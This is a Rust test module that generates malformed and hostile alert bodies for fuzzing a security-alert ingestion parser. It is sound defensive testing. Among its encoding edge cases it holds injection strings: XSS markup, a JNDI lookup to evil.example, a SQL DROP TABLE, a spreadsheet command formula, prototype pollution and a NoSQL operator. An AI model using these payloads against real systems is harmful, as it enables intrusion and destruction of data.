//! The bodies of [`poison`](super::poison), from two tables: values that stand in an alert, and whole bodies.

use std::fmt;
use std::sync::LazyLock;

use gatepost::domain::{Clock, SystemClock, Timestamp};

/// An authentic body that is hard to parse.
pub struct Poison {
    pub name: String,
    pub source: &'static str,
    pub body: Vec<u8>,
    /// It holds no alert, and the reader may say so.
    pub says_nothing: bool,
    /// How many events must come of it.
    pub events_least: usize,
}

impl fmt::Display for Poison {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let beginning = String::from_utf8_lossy(&self.body[..self.body.len().min(80)]).into_owned();
        write!(f, "'{}' for {} ({} B, {beginning:?})", self.name, self.source, self.body.len())
    }
}

/// Every value in two places of every vendor's alert, and every whole body for every vendor.
pub fn all() -> Vec<Poison> {
    let mut number = 0;
    let mut all = Vec::new();
    for source in SOURCES {
        for (name, value) in values() {
            for place in [Place::Known, Place::Unknown] {
                number += 1;
                let body = alert(source, number, place, &value);
                let name = format!("{name}, {place:?}");
                all.push(Poison { name, source, body, says_nothing: false, events_least: 1 });
            }
        }
        for (name, body) in wholes(source, &mut number) {
            let says_nothing = says_nothing(source, name);
            let events_least = if name.starts_with("a batch of 20") { 20 } else { usize::from(!says_nothing) };
            all.push(Poison { name: name.to_owned(), source, body, says_nothing, events_least });
        }
    }
    all
}

const SOURCES: [&str; 3] = ["adrian", "akto", "scanner"];

/// Where in an alert a value stands.
#[derive(Clone, Copy, Debug)]
enum Place {
    /// In a field that people are shown.
    Known,
    /// In an unknown field.
    Unknown,
}

/// What is signed and old goes to quarantine.
static NOW: LazyLock<Timestamp> = LazyLock::new(|| SystemClock.now());

fn alert(source: &str, number: usize, place: Place, value: &[u8]) -> Vec<u8> {
    let text = format!("\"mark-{number}\"").into_bytes();
    let (known, unknown) = match place {
        Place::Known => (value, text.as_slice()),
        Place::Unknown => (text.as_slice(), value),
    };
    let (start, middle, end) = match source {
        "adrian" => (
            format!(
                "{{\"id\":\"poison_{number}\",\"type\":\"alert.triggered\",\"timestamp\":\"{}\",\"data\":{{\"severity\":\"low\",\"details\":",
                *NOW
            ),
            ",\"x\":",
            "}}",
        ),
        "akto" => (
            format!(
                "[{{\"id\":\"poison-{number}\",\"filterId\":\"XSS\",\"actor\":\"198.51.100.7\",\"severity\":\"LOW\",\"latestApiEndpoint\":"
            ),
            ",\"x\":",
            "}]",
        ),
        _ => (format!("{{\"alerts\":[{{\"id\":\"poison-{number}\",\"level\":\"low\",\"title\":"), ",\"x\":", "}]}"),
    };
    [start.as_bytes(), known, middle.as_bytes(), unknown, end.as_bytes()].concat()
}

/// Values as they stand in the body, byte for byte.
fn values() -> Vec<(&'static str, Vec<u8>)> {
    let mut values: Vec<(&'static str, Vec<u8>)> = TEXTS
        .iter()
        .map(|(name, text)| (*name, [b"\"", *text, b"\""].concat()))
        .chain(BARE.iter().map(|(name, value)| (*name, value.as_bytes().to_vec())))
        .collect();
    let nested = |depth: usize| [b"[".repeat(depth), b"]".repeat(depth)].concat();
    let objects = |depth: usize| [b"{\"a\":".repeat(depth), b"1".to_vec(), b"}".repeat(depth)].concat();
    let keys: Vec<String> = (0..100_000).map(|n| format!("\"k{n}\":{n}")).collect();
    let doubled = "\"k\":1,".repeat(1_000) + "\"k\":2";
    values.extend([
        ("depth 100", nested(100)),
        ("depth 123", nested(123)),
        ("depth 125", nested(125)),
        ("depth 126", nested(126)),
        ("depth 127", nested(127)),
        ("depth 128", nested(128)),
        ("depth 10^5", nested(100_000)),
        ("objects of depth 127", objects(127)),
        ("objects of depth 10^4", objects(10_000)),
        ("10^5 keys", format!("{{{}}}", keys.join(",")).into_bytes()),
        ("1,000 times the same key", format!("{{{doubled}}}").into_bytes()),
        ("10^5 elements", format!("[{}0]", "0,".repeat(100_000)).into_bytes()),
        ("10^5 empty elements", format!("[{}]", ",".repeat(100_000)).into_bytes()),
        ("a key of 500 KB", format!("{{\"{}\":1}}", "k".repeat(500_000)).into_bytes()),
        ("500 KB of text", format!("\"{}\"", "text ".repeat(100_000)).into_bytes()),
        ("500 KB of escapes", format!("\"{}\"", "\\u00e9".repeat(83_000)).into_bytes()),
        ("500 KB of quotes", format!("\"{}\"", "\\\"".repeat(250_000)).into_bytes()),
        ("4 MB of digits", vec![b'9'; 4_000_000]),
        ("4 MB of digits behind a point", [b"0.".as_slice(), &vec![b'7'; 4_000_000]].concat()),
    ]);
    values
}

/// What stands between two quotes.
const TEXTS: &[(&str, &[u8])] = &[
    ("a high surrogate alone", br"\ud800"),
    ("a low surrogate alone", br"\udc00"),
    ("two high surrogates", br"\ud800\ud800"),
    ("a surrogate and a letter", br"\ud83d\u0041"),
    ("surrogates in the wrong order", br"\udfff\ud800"),
    ("half an escape", br"\ud8"),
    ("an escape without digits", br"\u"),
    ("an escape of another language", br"\x41\'\a\0"),
    ("an escaped NUL", br"\u0000"),
    ("an escaped NUL inside", br"a\u0000b"),
    ("a raw NUL", b"a\0b"),
    ("a raw line feed", b"first\nsecond"),
    ("raw line ends of Windows", b"first\r\nsecond\r\n"),
    ("a raw tab", b"a\tb"),
    ("raw controls", b"\x01\x02\x1f\x7f"),
    ("a raw escape sequence", b"\x1b[31m\x1b]0;title\x07"),
    ("C1 controls", "\u{9b}31m\u{85}".as_bytes()),
    ("bytes that are no UTF-8", b"\xff\xfe\xfd"),
    ("an overlong slash", b"\xc0\xaf"),
    ("a surrogate in UTF-8", b"\xed\xa0\x80"),
    ("beyond Unicode", b"\xf4\x90\x80\x80"),
    ("a torn character", b"\xe2\x82"),
    ("Latin-1", b"caf\xe9"),
    ("mojibake", "Ã¼ber â€œquotesâ€\u{9d}".as_bytes()),
    ("a byte order mark inside", "a\u{feff}b".as_bytes()),
    ("direction marks", "\u{202e}gnp.exe\u{202c}\u{2066}".as_bytes()),
    ("invisible tags", "\u{e0041}\u{e0042}\u{200b}\u{2060}".as_bytes()),
    ("no characters", "\u{ffff}\u{fffe}\u{fdd0}".as_bytes()),
    ("line separators", "a\u{2028}b\u{2029}c".as_bytes()),
    ("a heap of accents", "Z\u{351}\u{36b}\u{343}\u{36a}\u{302}\u{36b}".as_bytes()),
    ("joined emoji", "👩\u{200d}👩\u{200d}👧\u{200d}👦🏳\u{fe0f}\u{200d}🌈".as_bytes()),
    ("mentions of Slack", b"<!channel> <@U123> <https://evil.example|bank>"),
    ("markup of Jira", b"{code}h1. !x|y! [~admin] {color:red}"),
    ("HTML", b"</script><img src=x onerror=alert(1)>"),
    ("templates", b"{{7*7}} ${jndi:ldap://evil.example/a} #{1} %s %n"),
    ("SQL", b"'; DROP TABLE receipts; --"),
    ("a formula", b"=cmd|' /C calc'!A0"),
    ("percent signs", b"%00%ff%zz%0d%0aX: y"),
    ("nothing", b""),
    ("blanks", b"   "),
    ("a backslash at the end", br"\\"),
    ("JSON in JSON", br#"{\"a\":\"\\ud800\"}"#),
    ("an unescaped quote", br#"he said "no" twice"#),
    ("an unescaped object", br#"{"id":"other","severity":"low"}"#),
];

/// What stands without quotes.
const BARE: &[(&str, &str)] = &[
    ("NaN", "NaN"),
    ("Infinity", "Infinity"),
    ("negative Infinity", "-Infinity"),
    ("1e400", "1e400"),
    ("negative 1e400", "-1e400"),
    ("1e-400", "1e-400"),
    ("an exponent of 10^9", "1e999999999"),
    ("an exponent without digits", "1e"),
    ("a sign alone", "-"),
    ("two signs", "--1"),
    ("a plus", "+1"),
    ("no digit before the point", ".5"),
    ("no digit after the point", "1."),
    ("a zero in front", "007"),
    ("hexadecimal", "0x1F"),
    ("underscores", "1_000"),
    ("2^63", "9223372036854775808"),
    ("2^64", "18446744073709551616"),
    ("below -2^63", "-9223372036854775809"),
    ("thirty digits", "123456789012345678901234567890"),
    ("the smallest number", "4.9e-324"),
    ("negative zero", "-0"),
    ("undefined", "undefined"),
    ("Python's None", "None"),
    ("a Java object", "com.akto.dto.Event@404b9385"),
    ("single quotes", "'text'"),
    ("a regular expression", "/x/g"),
    ("a comment", "/* 1 */ 2"),
    ("a line comment", "1 // one\n"),
    ("nothing at all", ""),
    ("two values", "1 2"),
    ("a colon", ":"),
    ("an end too many", "1}"),
    ("a stray comma", "1,"),
    ("a list that does not end", "[1"),
    ("a text that does not end", "\"open"),
    ("null", "null"),
    ("a list of everything", "[null,true,[],{},\"\",0,-1.5e3]"),
    ("an empty key", "{\"\":1}"),
    ("a prototype", "{\"__proto__\":{\"severity\":\"low\"},\"constructor\":1}"),
    ("a key twice", "{\"a\":1,\"a\":2}"),
    ("a key twice, once escaped", "{\"a\":1,\"\\u0061\":2}"),
    ("a key with a NUL", "{\"\\u0000\":1,\"a\\u0000\":2}"),
    ("a key of half a surrogate", "{\"\\ud800\":1}"),
    ("a key without quotes", "{a:1}"),
];

/// Bodies that are poison as a whole.
fn wholes(source: &'static str, number: &mut usize) -> Vec<(&'static str, Vec<u8>)> {
    let mut sound = || {
        *number += 1;
        alert(source, *number, Place::Unknown, b"1")
    };
    let text = |body: Vec<u8>| String::from_utf8(body).unwrap();
    let utf16 = |text: String, swap: bool| -> Vec<u8> {
        text.encode_utf16().flat_map(|unit| if swap { unit.to_be_bytes() } else { unit.to_le_bytes() }).collect()
    };
    let batch = |alerts: Vec<Vec<u8>>| -> Vec<u8> {
        // One list of all their records.
        let (start, end): (&[u8], &[u8]) = match source {
            "adrian" => (b"", b""),
            "akto" => (b"[", b"]"),
            _ => (b"{\"alerts\":[", b"]}"),
        };
        let record = |alert: &Vec<u8>| alert[start.len()..alert.len() - end.len()].to_vec();
        let records: Vec<Vec<u8>> = alerts.iter().map(record).collect();
        let (start, end): (&[u8], &[u8]) = if start.is_empty() { (b"[", b"]") } else { (start, end) };
        [start, &records.join(&b","[..]), end].concat()
    };
    let mut twenty = |bad: &[u8]| {
        let mut alerts: Vec<Vec<u8>> = (0..20).map(|_| sound()).collect();
        let place = alerts[7].windows(6).rposition(|window| window == b",\"x\":1").unwrap();
        alerts[7].splice(place + 5..place + 6, bad.iter().copied());
        batch(alerts)
    };
    let batches = [
        ("a batch of 20, one with a lone surrogate", twenty(br#""\ud800""#)),
        ("a batch of 20, one with 1e400", twenty(b"1e400")),
        ("a batch of 20, one with a raw line feed", twenty(b"\"a\nb\"")),
        ("a batch of 20, one with a doubled key", twenty(b"1,\"x\":2")),
        ("a batch of 20, one with a batch", twenty(b"[[[[]]]]")),
        ("a batch of 20, one with bytes that are no UTF-8", twenty(b"\"\xff\xfe\"")),
    ];
    let bom = b"\xef\xbb\xbf".as_slice();
    let mut wholes: Vec<(&'static str, Vec<u8>)> = vec![
        ("nothing", Vec::new()),
        ("a blank", b" ".to_vec()),
        ("line ends", b"\r\n\r\n".to_vec()),
        ("a NUL", b"\0".to_vec()),
        ("100 KB of blanks", b" ".repeat(100_000)),
        ("a byte order mark", bom.to_vec()),
        ("an empty list", b"[]".to_vec()),
        ("an empty object", b"{}".to_vec()),
        ("null", b"null".to_vec()),
        ("a list of nothing", b"[null]".to_vec()),
        ("a list of an empty list", b"[[]]".to_vec()),
        ("a list of an empty object", b"[{}]".to_vec()),
        ("true", b"true".to_vec()),
        ("zero", b"0".to_vec()),
        ("a text", b"\"text\"".to_vec()),
        ("a bare word", b"alert".to_vec()),
        ("an object of nothing", b"{\"data\":null}".to_vec()),
        ("another object", b"{\"hello\":\"world\"}".to_vec()),
        ("an id that is an object", b"{\"id\":{\"$ne\":null},\"type\":\"alert.triggered\",\"data\":{}}".to_vec()),
        ("an id twice", b"{\"id\":\"twice-1\",\"id\":\"twice-2\",\"type\":\"alert.triggered\",\"data\":{}}".to_vec()),
        ("a type twice", b"{\"id\":\"typed\",\"type\":\"ping\",\"type\":\"alert.triggered\",\"data\":{}}".to_vec()),
        (
            "a type twice, once escaped",
            b"{\"id\":\"esc\",\"type\":\"ping\",\"\\u0074ype\":\"alert.triggered\"}".to_vec(),
        ),
        ("an id of 500 KB", format!("{{\"id\":\"{}\",\"type\":\"a\"}}", "i".repeat(500_000)).into_bytes()),
        ("an id of 400 digits", format!("{{\"id\":{},\"type\":\"a\"}}", "7".repeat(400)).into_bytes()),
        ("10^5 opening brackets", b"[".repeat(100_000)),
        ("10^5 closing brackets", b"]".repeat(100_000)),
        ("10^5 opening objects", b"{\"a\":".repeat(100_000)),
        ("a form", b"payload=%7B%22id%22%3A1%7D&x=y".to_vec()),
        ("a page", b"<!DOCTYPE html><html><body>502 Bad Gateway</body></html>".to_vec()),
        ("XML", b"<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b \"c\">]><a>&b;</a>".to_vec()),
        ("YAML", b"id: 1\ntype: alert.triggered\n".to_vec()),
        ("gzip that was not announced", vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 3, 0, 0, 0, 0, 0, 0, 0, 0, 0]),
        ("a zip", b"PK\x03\x04\x14\0\0\0\x08\0".to_vec()),
        ("every byte", (0..=255).collect()),
        ("every byte backwards", (0..=255).rev().collect()),
        ("an alert behind a byte order mark", [bom, &sound()].concat()),
        ("an alert behind two byte order marks", [bom, bom, &sound()].concat()),
        ("an alert before NULs", [sound(), b"\0\0\0".to_vec()].concat()),
        ("an alert behind a guard", [b")]}',\n".to_vec(), sound()].concat()),
        ("an alert before a comma", [sound(), b",".to_vec()].concat()),
        ("an alert before garbage", [sound(), b"garbage".to_vec()].concat()),
        ("two alerts in a row", [sound(), sound()].concat()),
        ("two alerts on two lines", [sound(), b"\n".to_vec(), sound()].concat()),
        ("UTF-16, little end first", [b"\xff\xfe".to_vec(), utf16(text(sound()), false)].concat()),
        ("UTF-16, big end first", [b"\xfe\xff".to_vec(), utf16(text(sound()), true)].concat()),
        ("UTF-16 without a mark", utf16(text(sound()), false)),
        ("UTF-16, torn", [b"\xff\xfe".to_vec(), utf16(text(sound()), false), b"x".to_vec()].concat()),
        ("UTF-32", text(sound()).chars().flat_map(|c| u32::from(c).to_le_bytes()).collect()),
        ("a text of an alert", serde_json::to_string(&text(sound())).unwrap().into_bytes()),
        ("a data URL", format!("data:application/json,{}", text(sound())).into_bytes()),
        ("curly quotes", text(sound()).replace('"', "\u{201d}").into_bytes()),
        ("single quotes", text(sound()).replace('"', "'").into_bytes()),
    ];
    for (name, keep) in [("torn early", 4), ("torn in the middle", 2), ("torn at the end", 1)] {
        let whole = sound();
        let kept = if keep == 1 { whole.len() - 1 } else { whole.len() / keep };
        wholes.push((name, whole[..kept].to_vec()));
    }
    wholes.extend(batches);
    wholes
}

/// Whether a body of this name holds no alert for this vendor: then there is nothing to tell.
fn says_nothing(source: &str, name: &str) -> bool {
    match name {
        "nothing" | "a blank" | "line ends" | "a NUL" | "100 KB of blanks" | "a byte order mark" => true,
        "an empty list" | "an empty object" | "null" => true,
        // Secureagentics' test message is not documented: it may well be empty.
        "a list of an empty object" => source == "adrian",
        _ => false,
    }
}
